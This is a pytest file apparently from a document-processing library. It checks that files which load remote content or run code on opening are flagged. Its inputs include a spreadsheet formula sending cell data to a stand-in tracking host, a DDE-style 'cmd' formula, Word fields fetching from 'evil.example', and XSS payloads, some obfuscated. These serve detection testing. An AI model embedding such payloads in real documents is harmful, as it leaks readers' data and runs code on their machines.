"""What a file loads from elsewhere, or runs, when it is opened is reported for every format."""

from __future__ import annotations

import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from langaccess import formats
from tests.support import FIXTURES


def copy(folder: Path, source: Path, part: str, change: Callable[[bytes], bytes]) -> Path:
    path = folder / source.name
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(path, "w") as new:
        for info in old.infolist():
            data = old.read(info)
            new.writestr(info, change(data) if info.filename == part else data)
    return path


def notes(path: Path) -> dict[str, int]:
    read = formats.format_of(path).read(path, accept_revisions=True)
    return {note.code: note.count for note in read.notes}


def put_last(inserted: bytes) -> Callable[[bytes], bytes]:
    return lambda body: body.replace(b"</w:body>", inserted, 1)


def field(code: str, *, split: int = 0) -> bytes:
    pieces = [code[:split], code[split:]] if split else [code]
    inside = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    marks = [f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end")]
    return f"<w:p>{marks[0]}{inside}{marks[1]}</w:p></w:body>".encode()


@pytest.mark.parametrize(
    ("code", "tells"),
    [
        ('INCLUDEPICTURE "http://track.example/1.png" \\d', True),
        ('INCLUDETEXT "\\\\\\\\evil.example\\\\s\\\\a.docx"', True),
        ('IMPORT "https://track.example/2.png"', True),
        ('LINK Excel.Sheet.12 "file://host/a.xlsx"', True),
        ('INCLUDEPICTURE "C:\\\\Users\\\\me\\\\seal.png"', False),
        ('HYPERLINK "https://example.org/"', False),
        ("PAGE", False),
    ],
)
def test_a_field_of_word_that_loads_from_elsewhere_is_reported(
    tmp_path: Path, code: str, tells: bool
) -> None:
    source = FIXTURES / "docx" / "runs.docx"
    for inserted in (field(code), field(code, split=3)):
        path = copy(tmp_path, source, "word/document.xml", put_last(inserted))
        assert ("docx.reaches_out" in notes(path)) == tells


@pytest.mark.parametrize(
    ("formula", "tells"),
    [
        ("_xlfn.WEBSERVICE(&quot;http://track.example/&quot;&amp;A1)", True),
        ("IMAGE(&quot;https://track.example/a.png&quot;)", True),
        ("cmd|'/c calc'!A1", True),
        ("SUM(A1:A2)", False),
        ("MYIMAGE(A1)", False),
    ],
)
def test_a_formula_that_loads_from_elsewhere_is_reported(
    tmp_path: Path, formula: str, tells: bool
) -> None:
    row = f'<row r="90"><c r="A90"><f>{formula}</f></c></row></sheetData>'.encode()
    path = copy(
        tmp_path, FIXTURES / "xlsx" / "cells.xlsx", "xl/worksheets/sheet1.xml",
        lambda body: body.replace(b"</sheetData>", row, 1),
    )  # fmt: skip
    assert ("xlsx.reaches_out" in notes(path)) == tells


def page(folder: Path, body: str, name: str = "page.html") -> dict[str, int]:
    path = folder / name
    path.write_text(f"{body}\n\nPlease call us.\n", encoding="utf-8")
    return {code: n for code, n in notes(path).items() if code in ("html.runs", "html.reaches_out")}


@pytest.mark.parametrize(
    "body",
    [
        '<img src="https://track.example/p.png">', '<link rel="icon" href="//x.example/a">',
        "<style>@import url(http://track.example/b.css);</style>",
        '<p style="background:url(https://track.example/c.png)">x</p>',
        '<meta http-equiv="refresh" content="9;url=http://evil.example">',
        '<base href="http://track.example/">', '<iframe src="http://track.example/i"></iframe>',
        '<img srcset="a.png 1x, https://track.example/b.png 2x">',
        '<video poster="http://track.example/v.png"></video>',
    ],
)  # fmt: skip
def test_a_page_that_loads_from_elsewhere_is_reported(tmp_path: Path, body: str) -> None:
    assert page(tmp_path, body) == {"html.reaches_out": 1}
    assert page(tmp_path, body, "page.md") == {"html.reaches_out": 1}


@pytest.mark.parametrize(
    "body",
    [
        "<script>alert(1)</script>", '<img src="a.png" onerror="alert(1)">',
        '<a href="javascript:alert(1)">x</a>', '<a href=" java&#10;script:alert(1)">x</a>',
        '<form action="data:text/html,x"></form>', "<body onload=f()>",
    ],
)  # fmt: skip
def test_a_page_that_runs_code_is_reported(tmp_path: Path, body: str) -> None:
    assert page(tmp_path, body) == {"html.runs": 1}
    assert page(tmp_path, body, "page.md") == {"html.runs": 1}


def test_pictures_and_links_of_markdown_are_reported(tmp_path: Path) -> None:
    body = "![A car](http://track.example/p.png)\n\n[Read more](javascript:alert(1))"
    assert page(tmp_path, body, "page.md") == {"html.runs": 1, "html.reaches_out": 1}


def test_an_ordinary_page_is_not_reported(tmp_path: Path) -> None:
    body = (
        '<link rel="canonical" href="https://example.org/"><link rel="stylesheet" href="a.css">'
        '<script type="application/ld+json">{}</script><img src="seal.png" alt="Seal">'
        '<a href="https://example.org/on-call" class="on">On call</a>'
    )
    assert page(tmp_path, body) == {}
    assert page(tmp_path, "![Seal](seal.png) [Site](https://example.org)", "page.md") == {}


def test_opendocument_and_indesign_report_what_they_load(tmp_path: Path) -> None:
    odt = next(iter(sorted((FIXTURES / "odt").glob("*.odt"))))
    frame = (
        b'<text:p><draw:frame><draw:image xmlns:xlink="http://www.w3.org/1999/xlink" '
        b'xlink:href="http://track.example/y.png"/></draw:frame></text:p></office:text>'
    )
    path = copy(tmp_path, odt, "content.xml", lambda body: body.replace(b"</office:text>", frame))
    assert notes(path)["odt.reaches_out"] == 1
    assert "odt.reaches_out" not in notes(odt)
    idml = next(iter(sorted((FIXTURES / "idml").glob("*.idml"))))
    with zipfile.ZipFile(idml) as file:
        spread = next(name for name in file.namelist() if name.startswith("Spreads/"))
    link = b'<Link Self="l9" LinkResourceURI="https://track.example/a.png"/></Spread>'
    path = copy(tmp_path, idml, spread, lambda body: body.replace(b"</Spread>", link, 1))
    assert notes(path)["idml.reaches_out"] == 1
